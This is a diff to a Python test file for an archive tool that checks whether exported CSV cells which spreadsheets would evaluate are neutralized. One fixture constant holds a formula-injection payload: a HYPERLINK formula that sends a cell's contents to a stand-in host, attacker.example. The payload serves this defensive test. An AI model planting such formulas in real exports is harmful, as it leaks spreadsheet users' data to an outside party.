@@ -20,7 +20,6 @@ from click.testing import CliRunner
 from eurasec_archive.app import create_app
 from eurasec_archive.archive import Archive
 from eurasec_archive.cli import main
-from eurasec_archive.importer import collect_files
 
 FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
@@ -41,7 +40,7 @@ def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralized(tmp_path):
     docs.mkdir()
     write_doc(docs, "@report.txt", FORMULA_TITLE)
     root = tmp_path / "archive"
-    Archive(root).import_files(collect_files([docs]))
+    assert cli(root, "import", str(docs)).returncode == 0
     web = create_app({"ARCHIVE_DIR": str(root)}).test_client().get("/api/search?q=&format=csv")
     shell = CliRunner().invoke(main, ["--archive-dir", str(root), "export", "--format", "csv"])
     assert shell.exit_code == 0, shell.output
